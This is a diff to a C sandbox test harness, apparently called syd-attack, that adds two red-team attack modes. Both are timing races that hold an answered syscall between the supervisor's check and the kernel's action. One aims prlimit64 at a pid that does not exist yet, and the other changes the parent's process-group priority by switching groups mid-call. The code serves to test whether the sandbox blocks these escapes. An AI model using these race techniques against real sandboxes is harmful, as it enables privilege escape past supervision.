@@ -54,6 +54,14 @@
  *                                         0x100000000; waits for EOF on stdin
  *   syd-attack peercred SOCKET            D: as uid 65534, what the server at
  *                                         SOCKET sees of us, forged creds too
+ *   syd-attack future-pid HELD FIFO [DENIED]
+ *                                         F: prlimit64 on the next pid, which a
+ *                                         supervisor thread takes meanwhile
+ *   syd-attack group-race setpriority|ioprio [HELD]
+ *                                         G: on our own group 0, joining the
+ *                                         parent's group after the check
+ *                                         (F, G: until HELD rounds held the
+ *                                         answered call, or 4 s)
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -1349,7 +1357,7 @@ static int magic_race(int n, const char* noise) {
   return blocked("magic-race (every process locked)", ENOENT);
 }
 
-/* ---- 12. the red-team's findings (A, B, D) ------------------------------------ */
+/* ---- 12. the red-team's findings (A, B, D, F, G) ------------------------------ */
 
 /* Reads up to one line of stdin (without the newline); "" at EOF. */
 static void read_line(char* buf, size_t len) {
@@ -1597,6 +1605,382 @@ static int peer_cred(const char* path) {
   return blocked("sendmsg(forged SCM_CREDENTIALS)", send_err ? send_err : EPROTO);
 }
 
+/* F, G: holding a caller between the supervisor's answer and the kernel's
+ * action. A call the supervisor answers with CONTINUE is carried out by the
+ * kernel only when the caller runs again. The caller here (nice 19) is
+ * pinned to a CPU with a spinner (nice 0, 68 times its weight), which starts
+ * once the caller waits for its answer: answered, the caller is runnable,
+ * but the scheduler keeps running the spinner until it stops. Meanwhile
+ * `act` runs on another CPU, and whatever the kernel then does, it does in
+ * the world `act` left. This is the red-team's trick (SCHED_IDLE and busy
+ * threads; nice 19 still gets into its call on a loaded machine) made a
+ * handshake: a round counts as held only when the caller was seen waiting
+ * (S) with the spinner running, then answered (R) and not yet returned. */
+struct hold {
+  int cpu;                      /* the caller's and the spinner's */
+  pid_t tid;                    /* the caller's */
+  atomic_int go, in_call, done, spin, spinning, quit;
+  long (*call)(void*);
+  void* arg;
+  long ret;
+  int err;
+};
+
+static void futex_wait_(atomic_int* a, int val) { syscall(SYS_futex, a, FUTEX_WAIT_PRIVATE, val, NULL, NULL, 0); }
+static void futex_wake_(atomic_int* a) { syscall(SYS_futex, a, FUTEX_WAKE_PRIVATE, INT_MAX, NULL, NULL, 0); }
+
+static void pin_to(int cpu) {
+  cpu_set_t s;
+  CPU_ZERO(&s);
+  CPU_SET(cpu, &s);
+  (void)sched_setaffinity(0, sizeof s, &s);
+}
+
+static void* hold_caller(void* a) {
+  struct hold* h = a;
+  pin_to(h->cpu);
+  h->tid = gettid();
+  atomic_store(&h->done, 1);
+  futex_wake_(&h->done);
+  for (;;) {
+    while (!atomic_load(&h->go)) futex_wait_(&h->go, 0);
+    atomic_store(&h->go, 0);
+    if (atomic_load(&h->quit)) return NULL;
+    (void)setpriority(PRIO_PROCESS, 0, 19); /* again: a group call may have changed it */
+    atomic_store(&h->in_call, 1);
+    long r = h->call(h->arg);
+    h->err = r < 0 ? errno : 0;
+    h->ret = r;
+    atomic_store(&h->in_call, 0);
+    atomic_store(&h->done, 1);
+  }
+}
+
+static void* hold_spinner(void* a) {
+  struct hold* h = a;
+  pin_to(h->cpu);
+  for (;;) {
+    while (!atomic_load(&h->spin)) futex_wait_(&h->spin, 0);
+    if (atomic_load(&h->quit)) return NULL;
+    atomic_store(&h->spinning, 1);
+    while (atomic_load(&h->spin)) {
+    }
+    atomic_store(&h->spinning, 0);
+  }
+}
+
+/* The state letter of /proc/self/task/TID/stat, read through `fd`. */
+static char task_state(int fd) {
+  char b[512];
+  ssize_t n = pread(fd, b, sizeof b - 1, 0);
+  if (n <= 0) return '?';
+  b[n] = 0;
+  char* rp = strrchr(b, ')');
+  return rp && rp[1] == ' ' ? rp[2] : '?';
+}
+
+static pthread_t hold_threads[2];
+static int hold_stat_fd = -1;
+
+/* The share of `cpu` a thread of ours gets over 20 ms (its CPU time over
+ * the wall time, per mille): run on that CPU. */
+static void* cpu_share_probe(void* arg) {
+  intptr_t* cpu = arg;
+  pin_to((int)*cpu);
+  struct timespec c0, c1;
+  clock_gettime(CLOCK_THREAD_CPUTIME_ID, &c0);
+  long end = now_ms() + 20;
+  while (now_ms() < end) {
+  }
+  clock_gettime(CLOCK_THREAD_CPUTIME_ID, &c1);
+  *cpu = ((c1.tv_sec - c0.tv_sec) * 1000000000L + (c1.tv_nsec - c0.tv_nsec)) / 20000L;
+  return NULL;
+}
+
+/* Starts the caller and the spinner on the CPU where we get the most time
+ * (of the first 16 we may use: one that something else keeps busy, a
+ * real-time task say, would starve the caller before its call); this thread
+ * moves to the others (if any). 0 or errno. */
+static int hold_start(struct hold* h) {
+  cpu_set_t mine;
+  if (sched_getaffinity(0, sizeof mine, &mine) != 0) return errno;
+  int pick = -1, count = CPU_COUNT(&mine), tried = 0;
+  intptr_t best = -1;
+  for (int i = 0; i < CPU_SETSIZE && tried < 16; ++i) {
+    if (!CPU_ISSET(i, &mine)) continue;
+    ++tried;
+    intptr_t share = i;
+    pthread_t t;
+    if (count > 1 && pthread_create(&t, NULL, cpu_share_probe, &share) == 0) pthread_join(t, NULL);
+    if (share >= best) best = share, pick = i;
+  }
+  h->cpu = pick;
+  info("holding on cpu %d of %d (%ld per mille of it for us)", pick, count, (long)best);
+  if (count > 1) {
+    CPU_CLR(pick, &mine);
+    (void)sched_setaffinity(0, sizeof mine, &mine);
+  }
+  atomic_store(&h->done, 0);
+  pthread_create(&hold_threads[0], NULL, hold_caller, h);
+  pthread_create(&hold_threads[1], NULL, hold_spinner, h);
+  while (!atomic_load(&h->done)) futex_wait_(&h->done, 0);
+  char path[64];
+  snprintf(path, sizeof path, "/proc/self/task/%d/stat", h->tid);
+  hold_stat_fd = open(path, O_RDONLY | O_CLOEXEC);
+  return hold_stat_fd < 0 ? errno : 0;
+}
+
+static void hold_stop(struct hold* h) {
+  atomic_store(&h->quit, 1);
+  atomic_store(&h->go, 1);
+  futex_wake_(&h->go);
+  atomic_store(&h->spin, 1);
+  futex_wake_(&h->spin);
+  pthread_join(hold_threads[0], NULL);
+  pthread_join(hold_threads[1], NULL);
+  close(hold_stat_fd);
+}
+
+/* Rounds go on until `want` of them were held or 4 s have passed: how many
+ * are held depends on how fast the supervisor answers (a few to most). */
+#define HOLD_BUDGET_MS 4000
+
+/* One call of h->call; `act` runs while the answered caller is held.
+ * 1: held (act ran), 0: not held (act did not run), -1: the caller never
+ * returned (10 s). */
+static int hold_round(struct hold* h, void (*act)(void*), void* act_arg) {
+  atomic_store(&h->done, 0);
+  atomic_store(&h->go, 1);
+  futex_wake_(&h->go);
+  long end = now_ms() + 1000;
+  int waiting = 0, held = 0;
+  /* 1. the caller waits for its answer */
+  while (!atomic_load(&h->done) && now_ms() < end) {
+    if (atomic_load(&h->in_call) && task_state(hold_stat_fd) == 'S') {
+      waiting = 1;
+      break;
+    }
+  }
+  if (waiting) {
+    atomic_store(&h->spin, 1);
+    futex_wake_(&h->spin);
+    while (!atomic_load(&h->spinning) && now_ms() < end) {
+    }
+    /* 2. still waiting with the spinner on its CPU: once answered, it is held */
+    if (atomic_load(&h->spinning) && !atomic_load(&h->done) && task_state(hold_stat_fd) == 'S') {
+      while (!atomic_load(&h->done) && now_ms() < end) {
+        if (task_state(hold_stat_fd) == 'R') {
+          held = 1;
+          break;
+        }
+      }
+    }
+  }
+  if (held) act(act_arg);
+  atomic_store(&h->spin, 0);
+  end = now_ms() + 10000;
+  while (!atomic_load(&h->done))
+    if (now_ms() > end) return -1;
+  return held;
+}
+
+/* F: a call on a pid that does not exist yet. Starts after a line on
+ * stdin (then, with DENIED, a burst of denied creations: a supervisor that
+ * starts threads on demand does it now); prints DONE and waits for EOF on
+ * stdin before exiting (the test looks at the parent meanwhile). Each
+ * round predicts the next
+ * pid (ns_last_pid + 1) and calls prlimit64(that pid, RLIMIT_MSGQUEUE, 4096);
+ * while the answered call is held, a FIFO open makes the supervisor start a
+ * thread, which takes that pid. Were the call let through when checked,
+ * the kernel would then set the supervisor's limit. The call must fail
+ * (ESRCH: nobody had that pid when it was checked) every time. */
+struct fpid {
+  pid_t target;
+  const char* fifo;
+  int last_pid_fd;
+  atomic_int open_go, open_done;
+  pid_t taken;  /* ns_last_pid after the act */
+};
+
+static pid_t last_pid(int fd) {
+  char b[32];
+  ssize_t n = pread(fd, b, sizeof b - 1, 0);
+  if (n <= 0) return -1;
+  b[n] = 0;
+  return atoi(b);
+}
+
+static long fpid_call(void* a) {
+  struct fpid* f = a;
+  struct rlimit lim = {4096, 4096};
+  return syscall(__NR_prlimit64, f->target, RLIMIT_MSGQUEUE, &lim, NULL);
+}
+
+static void* fifo_opener(void* a) {
+  struct fpid* f = a;
+  for (;;) {
+    while (!atomic_load(&f->open_go)) futex_wait_(&f->open_go, 0);
+    atomic_store(&f->open_go, 0);
+    if (!f->fifo) return NULL;
+    int fd = open(f->fifo, O_WRONLY | O_CLOEXEC); /* blocks on a supervisor thread until a reader comes */
+    if (fd >= 0) close(fd);
+    atomic_store(&f->open_done, 1);
+  }
+}
+
+static void fpid_act(void* a) {
+  struct fpid* f = a;
+  atomic_store(&f->open_go, 1);
+  futex_wake_(&f->open_go);
+  long end = now_ms() + 100;
+  while (now_ms() < end && (f->taken = last_pid(f->last_pid_fd)) < f->target) {
+  }
+}
+
+/* Four threads creat(path) 25 times each at once: denied calls, each
+ * reported, keep several supervisor workers busy together. */
+static void* denied_burst(void* arg) {
+  for (int i = 0; i < 25; ++i) {
+    long fd = syscall(__NR_creat, (const char*)arg, 0644);
+    if (fd >= 0) close((int)fd);
+  }
+  return NULL;
+}
+
+static int future_pid(int want, const char* fifo, const char* denied) {
+  printf("ppid=%d\nWAITING\n", getppid());
+  fflush(stdout);
+  char line[16];
+  read_line(line, sizeof line);
+  if (denied) {
+    pthread_t t[4];
+    for (int i = 0; i < 4; ++i) pthread_create(&t[i], NULL, denied_burst, (void*)denied);
+    for (int i = 0; i < 4; ++i) pthread_join(t[i], NULL);
+  }
+  struct fpid f;
+  memset(&f, 0, sizeof f);
+  f.fifo = fifo;
+  f.last_pid_fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
+  if (f.last_pid_fd < 0) return blocked("open ns_last_pid", errno);
+  struct hold h;
+  memset(&h, 0, sizeof h);
+  h.call = fpid_call;
+  h.arg = &f;
+  int e = hold_start(&h);
+  if (e) return blocked("hold setup", e);
+  pthread_t opener; /* started here: off the caller's CPU, like this thread */
+  pthread_create(&opener, NULL, fifo_opener, &f);
+  int rounds = 0, held = 0, taken = 0, passed = 0, first_err = 0;
+  pid_t passed_pid = 0;
+  long t0 = now_ms();
+  for (; held < want && now_ms() - t0 < HOLD_BUDGET_MS; ++rounds) {
+    f.target = last_pid(f.last_pid_fd) + 1;
+    f.taken = 0;
+    atomic_store(&f.open_done, 0);
+    int r = hold_round(&h, fpid_act, &f);
+    if (r < 0) return blocked("the held call never returned", ETIMEDOUT);
+    if (r == 1) {
+      ++held;
+      int rd = open(fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC); /* lets the writer's open finish */
+      long end = now_ms() + 2000;
+      while (!atomic_load(&f.open_done) && now_ms() < end) sleep_ms(1);
+      if (rd >= 0) close(rd);
+      if (!atomic_load(&f.open_done)) return blocked("the FIFO open never finished", ETIMEDOUT);
+      if (f.taken >= f.target) ++taken;
+    }
+    if (h.ret == 0) {
+      ++passed;
+      passed_pid = f.target;
+    } else if (!first_err) {
+      first_err = h.err;
+    }
+  }
+  info("future-pid: %d rounds in %ld ms, %d held, %d with the pid taken meanwhile, %d let through", rounds,
+       now_ms() - t0, held, taken, passed);
+  printf("rounds %d held %d taken %d\n", rounds, held, taken);
+  f.fifo = NULL;
+  atomic_store(&f.open_go, 1);
+  futex_wake_(&f.open_go);
+  pthread_join(opener, NULL);
+  hold_stop(&h);
+  printf("DONE\n");
+  fflush(stdout);
+  wait_stdin_eof();
+  if (passed) return escaped("future-pid: prlimit64 on pid %d, which did not exist when checked, succeeded (%d times)",
+                             passed_pid, passed);
+  return blocked("prlimit64(a pid that does not exist yet)", first_err);
+}
+
+/* G: setpriority (the parent's nice + 1) / ioprio_set (best effort, 7) on
+ * the caller's own process group (0), from a group of its own: only the
+ * sandbox. While the answered call is held,
+ * the process joins the parent's group. Were the call let through when
+ * checked, the kernel would then act on the parent's group, the parent
+ * included. The parent's priority must stay as it was. */
+#define SA_IOPRIO_WHO_PGRP 2
+#define SA_IOPRIO_CLASS_BE 2
+struct grace {
+  int io;
+  pid_t parent_group;
+  long value; /* what the call sets */
+};
+
+static long grace_call(void* a) {
+  struct grace* g = a;
+  if (g->io) return syscall(__NR_ioprio_set, SA_IOPRIO_WHO_PGRP, 0, g->value);
+  return syscall(__NR_setpriority, PRIO_PGRP, 0, g->value);
+}
+
+static void grace_act(void* a) {
+  struct grace* g = a;
+  (void)setpgid(0, g->parent_group);
+}
+
+static long parent_prio(int io, pid_t p) {
+  errno = 0;
+  return io ? syscall(__NR_ioprio_get, SA_IOPRIO_WHO_PROCESS, p) : getpriority(PRIO_PROCESS, p);
+}
+
+static int group_race(const char* what, int want) {
+  struct grace g = {strcmp(what, "ioprio") == 0, getpgrp(), 0};
+  const pid_t p = getppid();
+  const long before = parent_prio(g.io, p);
+  /* One step nicer than the parent: enough to see, and no burden on our
+   * own threads, which the calls renice as well. */
+  const long changed = g.value = g.io ? SA_IOPRIO_PRIO_VALUE(SA_IOPRIO_CLASS_BE, 7) : before + 1;
+  printf("parent %d group %d %s %ld\n", p, g.parent_group, g.io ? "ioprio" : "nice", before);
+  if (before == changed || (!g.io && before >= 19)) {
+    printf("SETUP the parent's value is already %ld\n", before);
+    return 2;
+  }
+  /* The plain attempt, from the parent's group: refused. */
+  long r = grace_call(&g);
+  printf("in the parent's group: %s\n", r == 0 ? "OK" : en(errno));
+  if (parent_prio(g.io, p) == changed) return escaped("group-race: %s of the parent's group", what);
+  if (setpgid(0, 0) != 0) return blocked("setpgid(0, 0)", errno);
+  struct hold h;
+  memset(&h, 0, sizeof h);
+  h.call = grace_call;
+  h.arg = &g;
+  int e = hold_start(&h);
+  if (e) return blocked("hold setup", e);
+  int rounds = 0, held = 0, oks = 0, hit = 0;
+  long t0 = now_ms();
+  for (; held < want && !hit && now_ms() - t0 < HOLD_BUDGET_MS; ++rounds) {
+    int k = hold_round(&h, grace_act, &g);
+    if (k < 0) return blocked("the held call never returned", ETIMEDOUT);
+    held += k;
+    oks += h.ret == 0;
+    if (setpgid(0, 0) != 0) return blocked("setpgid(0, 0)", errno);
+    if (parent_prio(g.io, p) == changed) hit = rounds + 1;
+  }
+  info("group-race: %d rounds in %ld ms, %d held, %d calls returned 0", rounds, now_ms() - t0, held, oks);
+  printf("rounds %d held %d\n", rounds, held);
+  hold_stop(&h);
+  if (hit) return escaped("group-race: %s of the parent reached through its group (round %d)", what, hit);
+  return blocked("group-race (the parent untouched)", EPERM);
+}
+
 int main(int argc, char** argv) {
   if (argc < 2) {
     fprintf(stderr, "usage: syd-attack MODE ARG...\n");
@@ -1628,6 +2012,8 @@ int main(int argc, char** argv) {
   if (IS("listener-parent") && argc > 2) return listener_parent(argv + 2);
   if (IS("prlimit-wide")) return prlimit_wide();
   if (IS("peercred")) return peer_cred(a);
+  if (IS("future-pid") && argc > 3) return future_pid(atoi(a), b, argc > 4 ? argv[4] : NULL);
+  if (IS("group-race")) return group_race(a, argc > 3 ? atoi(b) : 200);
 #undef IS
   fprintf(stderr, "syd-attack: unknown mode %s\n", m);
   return 100;
